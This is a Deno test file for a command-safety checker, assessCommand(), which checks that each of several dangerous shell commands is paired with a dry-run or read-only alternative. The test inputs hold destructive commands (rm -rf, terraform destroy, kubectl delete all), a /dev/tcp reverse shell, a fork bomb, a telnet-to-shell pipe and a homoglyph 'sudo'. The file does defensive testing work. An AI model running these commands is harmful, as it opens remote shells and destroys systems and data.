import assert from "node:assert/strict";
import { assessCommand } from "./mod.ts";

/** A command and what is proposed instead: it must run as it stands. */
const PROPOSALS: readonly (readonly [string, string])[] = [
  [
    "kubectl delete pvc data-0 -n prod",
    "kubectl delete pvc data-0 -n prod --dry-run=server",
  ],
  [
    "kubectl delete all --all -A",
    "kubectl delete all --all -A --dry-run=server",
  ],
  ["az group delete --yes", "az group show"],
  ["az group delete --name old --yes", "az group show --name old"],
  [
    "az sql db delete -g rg -n db -y",
    "az sql db show -g rg -n db",
  ],
  [
    "aws rds delete-db-instance --db-instance-identifier prod",
    "aws rds describe-db-instances --db-instance-identifier prod",
  ],
  [
    "aws ec2 terminate-instances --instance-ids i-1",
    "aws ec2 terminate-instances --instance-ids=i-1 --dry-run",
  ],
  ["apt-get purge -y libc6", "apt-get purge libc6 -s"],
  ["pip install requests==2.31.0", "pip index versions requests"],
  ["npm install express@4", "npm view express@4"],
  ["lvremove -f vg0/root", "lvremove vg0/root --test"],
  ["btrfs subvolume delete /home", "btrfs subvolume show /home"],
  ["cd /srv && rm -rf data", "cd /srv && find data -maxdepth 2 -ls"],
  ["ssh root@db1 'rm -rf /srv/*'", "ssh root@db1 'ls -lad /srv/*'"],
  ['rm -rf "$BUILD_DIR"/', 'ls -lad "$BUILD_DIR/"'],
  ["rm -rf $(pwd)/..", "find .. -maxdepth 2 -ls"],
  [
    "sed -i '/swap/d' /etc/fstab",
    "sed '/swap/d' /etc/fstab | diff /etc/fstab -",
  ],
  ["bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "ss -tn"],
  ["f() { f | f & }; f", "ulimit -a"],
  ["passwd -l root", "passwd root -S"],
  ["git clean -fdx", "git clean -d -x --dry-run"],
  ["terraform destroy -auto-approve", "terraform plan -destroy"],
  ["rsync -a --delete empty/ srv/", "rsync -a --delete empty/ srv/ --dry-run"],
];

Deno.test("assessCommand() proposes a command that exists and keeps the caller's arguments", () => {
  for (const [command, proposal] of PROPOSALS) {
    assert.equal(assessCommand(command).safer_alternative, proposal, command);
  }
});

Deno.test("assessCommand() proposes no download of what no downloader can reach", () => {
  const { safer_alternative } = assessCommand("telnet 203.0.113.7 443 | sh");
  assert.doesNotMatch(safer_alternative, /^curl/);
});

Deno.test("assessCommand() shows look-alike letters in what it proposes", () => {
  const { safer_alternative } = assessCommand("\u0455udo id");
  assert.match(safer_alternative, /\\u\{455\}/);
});
